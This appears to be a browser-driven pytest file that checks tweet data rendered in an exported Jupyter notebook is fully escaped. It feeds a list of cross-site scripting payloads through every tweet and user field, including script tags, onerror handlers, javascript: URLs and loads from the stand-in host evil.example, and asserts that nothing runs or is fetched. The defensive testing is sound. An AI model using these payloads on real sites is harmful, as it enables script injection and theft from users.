"""A notebook full of hostile tweets, exported to HTML and opened in a browser: nothing runs, nothing is fetched."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import nbformat.v4 as nb
import pytest

from xauth_nb.tweets import Tweets, parse_tweets

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

HOST = "https://evil.example"
RUN = "alert(1);window.ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt src={HOST}/a.js></sCrIpT >",
    f"<img src=x onerror='{RUN}'><svg onload='{RUN}'>",
    f"\"><img src={HOST}/b.png onerror='{RUN}'>",
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"</div></div></td></table></style><style>@import url({HOST}/c.css)</style><iframe src=javascript:{RUN}>",
    f"<!--<img src='--><img src=x onerror={RUN}>-->",
    f"<meta http-equiv=refresh content='0;url={HOST}'><base href={HOST}><link rel=stylesheet href={HOST}/d.css>",
    f"x;background:url({HOST}/e.png);expression({RUN})",
    "\u202egpj.exe\u202c \u2066\u2067 \u200f",
    "\x00\x07\x1b[31m\x7f\x85",
    "\ud800 alone, and \udfff",
    "<b>" * 8_000 + "x" * 1_000,
]


def answer(evil: str) -> bytes:
    """A page on which every string that X hands on is the same one, also where it is a name or an address.

    Only the text of a tweet is as long as that of the longest: 25,000 characters.
    """
    text, evil = evil, evil[:1_000]
    words = {"start": 0, "end": 2}
    entities = {
        "urls": [{**words, "url": evil, "expanded_url": evil, "display_url": evil, "unwound_url": evil, "title": evil}],
        "hashtags": [{**words, "tag": evil}],
        "cashtags": [{**words, "tag": evil}],
        "mentions": [{**words, "username": evil, "id": "7"}],
    }
    tweet = {
        "text": text,
        "author_id": "7",
        "username": evil,
        "lang": evil,
        "source": evil,
        "created_at": "2026-03-04T18:40:40.000Z",
        "entities": entities,
        "attachments": {"media_keys": ["3_1", "3_2"], "poll_ids": ["5"]},
        "geo": {"place_id": "6"},
        "withheld": {"country_codes": [evil]},
        "reply_settings": evil,
    }
    user = {
        "id": "7",
        "username": evil,
        "name": evil,
        "description": evil,
        "location": evil,
        "url": evil,
        "profile_image_url": evil,
        "verified_type": evil,
        "entities": {"url": {"urls": entities["urls"]}, "description": entities},
        "withheld": {"country_codes": [evil]},
    }
    media = [{"media_key": f"3_{n}", "type": kind, "url": evil, "preview_image_url": evil, "alt_text": evil}
             for n, kind in ((1, "photo"), (2, evil))]  # fmt: skip
    page = {
        "data": [{**tweet, "id": "1", "referenced_tweets": [{"type": "quoted", "id": "2"}]}, {**tweet, "id": "3"}],
        "includes": {
            "users": [user],
            "tweets": [{**tweet, "id": "2"}],
            "media": media,
            "polls": [{"id": "5", "options": [{"position": 1, "label": evil, "votes": 1}], "voting_status": evil}],
            "places": [{"id": "6", "full_name": evil, "name": evil, "country": evil}],
        },
        "errors": [{"title": evil, "detail": evil, "resource_id": evil, "value": evil}],
        "meta": {"result_count": 2},
    }
    return json.dumps(page).encode()


def shown(tweets: Tweets) -> list[dict[str, str]]:
    objects = [
        tweets,
        tweets[0],
        tweets.show(table=True),
        tweets.show(thread=True),
        tweets.users,
        *tweets.users,
    ]
    return [{"text/html": each._repr_html_(), "text/plain": repr(each)} for each in objects]


def exported(outputs: list[dict[str, str]], path: Path) -> str:
    from nbconvert import HTMLExporter  # half a second: here, and not in each worker that collects

    cells = [
        nb.new_code_cell("tweets", outputs=[nb.new_output("execute_result", data=data, execution_count=1)])
        for data in outputs
    ]
    path.write_text(HTMLExporter().from_notebook_node(nb.new_notebook(cells=cells))[0], encoding="utf-8")
    return path.as_uri()


def what_happens(browser: Browser, address: str) -> dict[str, object]:
    """Open a page from disk without any network, look at it and move over everything, and tell what it tried."""
    context = browser.new_context()
    try:
        page = context.new_page()
        dialogs: list[str] = []
        wanted: set[str] = set()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

        def refuse(route) -> None:
            if route.request.url == address:
                route.continue_()
            else:
                wanted.add(route.request.url)
                route.abort()

        context.route("**/*", refuse)
        page.goto(address)
        found = page.evaluate(
            """() => {
                const all = [...document.querySelectorAll('.jp-OutputArea-output *')];
                for (const one of all) for (const kind of ['mouseover', 'focus', 'click'])
                    if (one.tagName !== 'A' || kind !== 'click') one.dispatchEvent(new Event(kind, {bubbles: true}));
                return {
                    ran: window.ran === 1,
                    handlers: all.filter(one => [...one.attributes].some(each => each.name.startsWith('on'))).length,
                    links: all.filter(one => one.href && !/^https?:$/.test(one.protocol)).map(one => one.href),
                    tags: all.map(one => one.tagName.toLowerCase()).filter(tag =>
                        /^(script|iframe|object|embed|form|base|meta|link|style|svg|img|video|audio)$/.test(tag)),
                    shown: all.length,
                };
            }"""
        )
        return {**found, "dialogs": dialogs, "wanted": wanted}
    finally:
        context.close()


def test_an_exported_notebook_of_hostile_tweets_runs_nothing_and_asks_no_host(browser: Browser, tmp_path: Path) -> None:
    plain = what_happens(browser, exported([{"text/html": "<b>1</b>"}], tmp_path / "plain.html"))
    outputs = [data for evil in PAYLOADS for data in shown(parse_tweets(answer(evil)))]
    hostile = what_happens(browser, exported(outputs, tmp_path / "hostile.html"))
    assert hostile["shown"] > 1000
    assert hostile["wanted"] == plain["wanted"]  # what the exporter's own page asks for
    assert (hostile["dialogs"], hostile["ran"]) == ([], False)
    assert (hostile["handlers"], hostile["links"], hostile["tags"]) == (0, [], [])


def test_the_same_texts_unescaped_would_have_been_noticed(browser: Browser, tmp_path: Path) -> None:
    outputs = [{"text/html": evil} for evil in PAYLOADS[:4]]
    found = what_happens(browser, exported(outputs, tmp_path / "raw.html"))
    assert found["ran"]
    assert found["dialogs"]
    assert found["handlers"]
    assert any(str(address).startswith(HOST) for address in found["wanted"])
